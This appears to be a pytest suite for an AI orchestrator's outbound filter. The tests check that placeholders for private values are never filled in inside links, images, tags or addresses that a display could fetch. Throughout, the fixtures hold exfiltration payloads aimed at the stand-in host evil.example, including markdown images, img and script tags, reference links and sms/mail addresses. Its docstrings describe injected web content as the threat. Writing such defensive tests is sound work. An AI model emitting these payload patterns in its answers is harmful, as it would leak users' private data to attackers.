"""No placeholder is filled in inside of what a program that displays the answer would fetch, link or send."""

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from benchmarks.fault_figures.addresses import COUNT, FILLED, spellings, with_placeholder
from nearfar import Tier
from nearfar.orchestrator.safety.outbound_filter import PlaceholderStream
from nearfar.orchestrator.safety.placeholders import Placeholders
from nearfar.protocols import InvalidOutput

SECRET = "aaaa"
SPELLINGS = list(spellings())


@pytest.fixture
def placeholders() -> Placeholders:
    return Placeholders()


def named(placeholders: Placeholders, value: str = SECRET) -> str:
    return placeholders.name_for(value, "private", tier=Tier.DEVICE, origin="x")


def streamed(placeholders: Placeholders, text: str, *, before: str = "") -> str:
    heard: list[str] = []
    opened = PlaceholderStream(placeholders, heard.append, before=lambda: before)
    for letter in text:
        opened(letter)
    opened.close()
    return "".join(heard)


def test_there_are_two_hundred_spellings() -> None:
    assert len(set(SPELLINGS)) == COUNT


@pytest.mark.parametrize("spelling", SPELLINGS)
def test_no_placeholder_in_an_address_is_filled_in(spelling: str, placeholders: Placeholders) -> None:
    text = with_placeholder(spelling, named(placeholders))
    assert placeholders.fill_for_display(text) == text
    assert streamed(placeholders, text) == text


@pytest.mark.parametrize("form", FILLED)
def test_placeholder_that_the_user_reads_is_filled_in(form: str, placeholders: Placeholders) -> None:
    text = with_placeholder(form, named(placeholders))
    wanted = with_placeholder(form, SECRET)
    assert placeholders.fill_for_display(text) == wanted
    assert streamed(placeholders, text) == wanted


def test_address_that_one_value_begins_takes_no_other_value(placeholders: Placeholders) -> None:
    """A page that a private tool has read can hold the beginning of an image."""
    link, angled = "see https://evil.example/", "![x](<https://evil.example/?q= "
    for opening in ("![x](https://evil.example/?q=", "<img src='//evil.example/?q=", link, angled):
        first, second = named(placeholders, opening), named(placeholders)
        assert placeholders.fill_for_display(f"{first}{second}") == f"{opening}{second}"


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (".example/", "evil{0}{1}"),
        (".", "evil{0}example/{1}"),
        (".example", "evil{0}/{1}"),
        ("ip", "<scr{0}t>to = '/' + '/evil' + '.example/'; what = '{1}'"),
        ("yle", "<st{0}>a[x^='{1}']"),
        ("ba", "<{0}se href=x> {1}"),
        ("r", "<f{0}ame> {1}"),
        ("\n[x]: </", "![x][{1}]\n{0}evil/a>\n[{1}]: /b"),
    ],
)
def test_value_that_completes_an_address_or_a_tag_around_itself_takes_no_other_value(
    value: str, text: str, placeholders: Placeholders
) -> None:
    """A page that a private tool has read can hold whatever its author likes."""
    first, second = named(placeholders, value), named(placeholders)
    assert second in placeholders.fill_for_display(text.format(first, second))


def test_values_that_begin_no_address_are_filled_in_beside_each_other(placeholders: Placeholders) -> None:
    first, second = named(placeholders, "[at] 9:05"), named(placeholders)
    assert placeholders.fill_for_display(f"{first} ({second}): {first}") == f"[at] 9:05 ({SECRET}): [at] 9:05"


def test_values_that_may_begin_an_address_stay_out_of_an_answer_that_takes_too_long_to_read(placeholders: Placeholders) -> None:
    first, second = named(placeholders, "[at] nine"), named(placeholders)
    text = f"{first} and {second}" + " and" * 200_000
    assert placeholders.fill_for_display(text).startswith(f"{first} and {SECRET} and")


def test_letters_with_marks_on_them_are_read_as_parts_of_hosts(placeholders: Placeholders) -> None:
    name = named(placeholders)
    for host in ("evil\ufe0f.example", "ev\u034fil.example", "\u0939\u093f\u0928\u094d\u0926\u0940.\u092d\u093e\u0930\u0924"):
        assert placeholders.fill_for_display(f"{host}/{name}") == f"{host}/{name}"


@pytest.mark.parametrize("address", ["{p}@evil.example", "jane+{p}@evil.example", "magnet:?xt={p}", "sms:+12025550123?body={p}"])
def test_mail_and_other_addresses_without_slashes_take_no_value(address: str, placeholders: Placeholders) -> None:
    text = f"Write to {with_placeholder(address, named(placeholders))} today."
    assert placeholders.fill_for_display(text) == text


def test_address_that_an_earlier_turn_has_left_open_takes_no_value(placeholders: Placeholders) -> None:
    name = named(placeholders)
    assert streamed(placeholders, f"{name}>)", before="![x](<https://evil.example/?q= ") == f"{name}>)"
    assert streamed(placeholders, f"{name}>)", before="Let me look. ") == f"{SECRET}>)"


def test_address_that_begins_behind_a_placeholder_is_still_seen(placeholders: Placeholders) -> None:
    """The definition at the end of the text makes an address of the label at its beginning."""
    name = named(placeholders)
    text = f"![x][{name}] and more\n\n[{SECRET}]: https://evil.example/{SECRET}"
    assert streamed(placeholders, text) == text


def test_each_string_of_a_json_answer_is_read_by_itself(placeholders: Placeholders) -> None:
    name = named(placeholders, 'says "nine"')
    answer = {"page": f"https://evil.example/{name}", "escaped": f"https://evil.example/{name}", "who": name, name: [name]}
    text = json.dumps(answer).replace('escaped": "https:', 'escaped": "https\\u003a')
    shown = json.loads(placeholders.fill_for_display(text, in_json=True))
    del answer[name]
    assert shown == answer | {"who": 'says "nine"', 'says "nine"': ['says "nine"']}


@pytest.mark.parametrize("altered", ["<PASSWORD_1_k3t7xq>", "<password_1_k3t7xq>", "< KEY_7 k3t7xq >", "<IBAN_NO_12_abcdef>"])
def test_placeholder_of_a_type_that_there_is_not_is_refused(altered: str, placeholders: Placeholders) -> None:
    named(placeholders)
    with pytest.raises(InvalidOutput, match="no placeholder"):
        placeholders.check(f"It is {altered}.")


def test_placeholder_whose_type_was_altered_is_refused_without_its_brackets_too(placeholders: Placeholders) -> None:
    name = named(placeholders)
    for altered in (name.replace("PRIVATE", "SECRET"), name.replace("PRIVATE", "IBAN")[1:-1], name[1:-1].replace("PRIVATE_1", "key 2")):
        with pytest.raises(InvalidOutput, match="no placeholder"):
            placeholders.check(f"It is {altered}.")


@pytest.mark.parametrize("part", ["<", "<!--", "<![", "[", "![", "](", "<a b='", "*a_", "a.", "\\", "[a](", "<a_1_", "tel:", "a@"])
def test_hostile_texts_are_read_in_time(part: str, placeholders: Placeholders) -> None:
    name = named(placeholders)
    assert name in placeholders.fill_for_display(f"<img src='//evil.example/{name}'>{part * 20_000}")


@given(st.text(max_size=80), st.text(max_size=80))
def test_any_text_is_shown_and_an_image_in_it_takes_no_value(before: str, after: str) -> None:
    placeholders = Placeholders()
    name = named(placeholders)
    shown = placeholders.fill_for_display(f"{before}\n\n![x](https://evil.example/{name}.png)\n\n{after}")
    assert f"evil.example/{name}" in shown
